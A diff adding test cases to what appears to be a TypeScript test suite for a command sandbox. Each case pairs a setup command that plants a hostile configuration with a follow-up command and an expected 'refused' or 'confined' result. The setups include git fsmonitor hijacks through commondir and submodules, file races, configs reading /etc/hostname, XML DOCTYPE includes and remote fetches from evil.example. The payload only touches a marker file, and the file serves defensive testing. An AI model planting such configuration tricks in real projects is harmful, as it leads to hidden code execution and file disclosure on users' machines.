@@ -39,6 +39,27 @@ const PAIRS: readonly (readonly [first: string, second: string, end: End])[] = [
     "cd sub && git status",
     "ask",
   ],
+  // A repository that leads elsewhere for its configuration; one in another, which git looks into (git-status(1), submodules).
+  [
+    "mkdir x; printf '[core]\\nfsmonitor=./evil.sh\\n' > x/config; printf ../x > commondir; git add commondir; rm commondir; " +
+      "cp .git/HEAD x; cp -r .git/refs .git/objects x; git --work-tree=.git checkout-index -f commondir; " +
+      "git --work-tree=.git checkout -- commondir; git -c user.name=a -c user.email=a@b commit -qm x; git --work-tree=.git checkout HEAD -- commondir",
+    "git status",
+    "refused",
+  ],
+  [
+    "mkdir sub; git init -q x; mv x/.git y; printf '[core]\\nfsmonitor=../evil.sh\\n' > z; cp -r .git w; printf '[core]\\nfsmonitor=../evil.sh\\n' > w/config; " +
+      "git init -q --separate-git-dir=$PWD/w sub; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
+    "git status",
+    "confined",
+  ],
+  ["git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub", "git diff", "confined"],
+  ["ln -s ../a.txt .git/packed-refs", "git log", "confined"],
+  // While a command waits, another one can change what it will read.
+  ["true", "sleep 9; cat a.txt", "confined"],
+  ["true", "tail -F a.txt", "confined"],
+  ["true", "sleep 9; git status", "confined"],
+  ["mkfifo p", "cat p a.txt", "confined"],
   // Settings that name programs, written by name, by a move, a link, an interpreter.
   ["echo 'script-shell=./evil.sh' > .npmrc", "npm ls", "refused"],
   ["echo 'yarnPath: ./evil.sh' > .yarnrc.yml", "yarn --version", "confined"],
@@ -71,6 +92,19 @@ const PAIRS: readonly (readonly [first: string, second: string, end: End])[] = [
   ["mkdir -p vendor && echo '<?php' > vendor/autoload.php", "composer show", "confined"],
   ["echo 'resources: [https://evil.example/x]' > kustomization.yaml", "kustomize build .", "confined"],
   ["echo 'import \"https://evil.example/x.ts\"' > a.ts", "deno check a.ts", "confined"],
+  ["printf 'fix = true' > ruff.toml", "ruff check .", "confined"],
+  ["printf '[codespell]\\nwrite-changes =\\n' > .codespellrc", "codespell .", "confined"],
+  ["printf 'extends: /etc/hostname' > .yamllint", "yamllint a.json", "confined"],
+  ["echo 'import \"/etc/hostname\"' > justfile", "just --list", "confined"],
+  ["echo '--from /etc/hostname' > .mlrc", "mlr --icsv cat < a.txt", "confined"],
+  ["echo '#include \"/etc/hostname\"' > a.c", "tcc -E a.c", "confined"],
+  ["echo '<svg/>' > a.png", "magick identify a.png", "confined"],
+  ["echo x > a.o", "objdump -S a.o", "confined"],
+  ["echo '<!DOCTYPE a SYSTEM \"/etc/hostname\">' > a.xml", "xmldiff a.xml a.xml", "confined"],
+  ["mkdir .svn", "svn log", "confined"],
+  ["printf 'backend: {url: https://evil.example}' > Pulumi.yaml", "pulumi stack ls", "confined"],
+  ["mkdir .jira.d; cp evil.sh .jira.d/config.yml", "jira issue list", "refused"],
+  ["mkdir .azure; echo '[extension]' > .azure/config", "az account show", "refused"],
   // Programs under the names of known ones, and beside them.
   ["cp evil.sh ls", "./ls", "confined"],
   ["mkdir bin && cp evil.sh bin/ls", "PATH=$PWD/bin:$PATH ls", "confined"],
@@ -98,7 +132,7 @@ const PAIRS: readonly (readonly [first: string, second: string, end: End])[] = [
 /** The files of the last group: whether the run wrote them. */
 const WRITES = new RegExp(
   String.raw`(\.vscode/tasks\.json|\.idea/workspace\.xml|\.devcontainer/devcontainer\.json|\.envrc|\.gdbinit|\.vimrc|` +
-    String.raw`app\.code-workspace|\.tool-versions|\.npmrc)`,
+    String.raw`app\.code-workspace|\.tool-versions|\.npmrc|\.jira\.d/config\.yml|\.azure/config)`,
 );
 
 const EVIL = '#!/bin/sh\ntouch "$(git rev-parse --show-toplevel 2>/dev/null || echo .)/ran"\n';
